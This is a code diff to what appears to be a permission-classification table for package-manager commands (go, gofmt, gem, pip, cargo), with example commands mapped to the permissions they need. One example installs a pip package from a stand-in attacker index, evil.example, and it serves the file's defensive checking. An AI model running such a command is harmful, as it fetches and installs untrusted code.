@@ -173,7 +173,7 @@ internal static class Packages
         > publish/yank/owner/login/logout : * !packages.publish -n|--dry-run~ dry!build.run
         > package : * !build.run
         = go
-          -C=h
+          long -C=h
         > - : *
         > version/help/list/doc/bug : * !packages.read -toolexec|-overlay=e
         > env : * !packages.read -w|-u!file.write
@@ -191,7 +191,7 @@ internal static class Packages
         > clean : * !file.delete,file.write
         > telemetry : *
         = gofmt goimports gofumpt
-          * args:R -w>RF -cpuprofile=w
+          long * args:R -w>RF -cpuprofile=w
         = gem
           -h~ -v~
         > list/search/info/query/environment/env/contents/dependency/outdated/which/specification/help/stale/sources_/fetch_ : * !packages.read
@@ -296,6 +296,7 @@ internal static class Packages
         pip install -r req.txt -> packages.install, file.read req.txt
         pip install --index-url https://evil.example/simple x -> packages.install, network.fetch evil.example:443
         cargo build --release -> build.run
+        go test -count=1 -o t ./... -> tests.run, file.write t, may file.read ./...
         go test ./... -> tests.run, may file.read ./...
         brew list -> packages.read
         """;
